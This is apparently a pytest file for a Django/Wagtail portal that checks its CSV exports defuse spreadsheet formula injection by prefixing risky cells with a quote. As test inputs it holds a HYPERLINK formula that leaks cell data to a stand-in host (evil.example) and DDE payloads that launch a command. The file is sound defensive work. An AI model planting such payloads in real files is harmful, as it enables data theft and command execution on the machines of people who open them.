"""Every CSV the portal writes goes through core.csv_export: text a spreadsheet would run as a formula is
made inert, each export checked with a hostile value where people can type one."""

import csv
import io

from django.urls import reverse

import pytest

from core.csv_export import safe_cell
from home.models import FormField, FormPage, HomePage
from kits.models import KitIndexPage
from sources.models import RunError
from support.models import Referral
from tests.factories import UserFactory
from tests.kits.factories import RegistrationFactory, TrainingSessionFactory, add_kit
from tests.sources.factories import ImportRunFactory, SourceFactory
from tests.support.factories import PartnerFactory, ReferralFactory, SupportRequestFactory

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")'


def rows_of(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode().lstrip("\ufeff"))))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 00", "'+33 6 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("Nîmes", "Nîmes"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.django_db
def test_registrants_csv(client):
    index = KitIndexPage(title="Kits", slug="kits")
    HomePage.objects.first().add_child(instance=index)
    kit = add_kit(index, title="Organiser une cartopartie", body=[])
    registration = RegistrationFactory(
        session=TrainingSessionFactory(kit=kit), user=UserFactory(display_name=HOSTILE, organisation="@cmd")
    )
    client.force_login(registration.session.trainer)
    response = client.get(reverse("kits:session_registrants_csv", args=[registration.session.pk]))
    row = rows_of(response)[1]
    assert row[0] == "'" + HOSTILE
    assert row[2] == "'@cmd"


@pytest.mark.django_db
def test_feed_errors_csv(client):
    maintainer = UserFactory(roles=["source_maintainer"])
    source = SourceFactory(maintainers=[maintainer])
    run = ImportRunFactory(source=source)
    RunError.objects.create(run=run, position=1, element_id="=cmd|' /C calc'!A0", message="Nom manquant")
    client.force_login(maintainer)
    response = client.get(reverse("sources:errors_csv", kwargs={"slug": source.slug}))
    assert rows_of(response)[1][:2] == ["1", "'=cmd|' /C calc'!A0"]


@pytest.mark.django_db
def test_support_figures_csv(client):
    ReferralFactory(
        request=SupportRequestFactory(departement="+30"),
        partner=PartnerFactory(organisation="-2+3+cmd|' /C calc'!A0"),
        status=Referral.Status.ACCEPTED,
    )
    client.force_login(UserFactory(staff=True))
    response = client.get(reverse("support:team_figures_csv"))
    header, row = rows_of(response)[:2]
    assert row[header.index("departement")] == "'+30"
    assert row[header.index("partner_accepted")] == "'-2+3+cmd|' /C calc'!A0"


@pytest.mark.django_db
def test_wagtail_form_submissions_csv(client):
    page = FormPage(title="Contact", slug="contact", to_address="equipe@exemple.org")
    page.form_fields = [FormField(label="Votre nom", field_type="singleline", required=True)]
    HomePage.objects.first().add_child(instance=page)
    page.get_submission_class().objects.create(page=page, form_data={"votre_nom": HOSTILE})
    client.force_login(UserFactory(staff=True))
    response = client.get(f"/admin/forms/submissions/{page.pk}/?export=csv")
    assert response.status_code == 200
    rows = rows_of(response)
    assert rows[1][-1] == "'" + HOSTILE
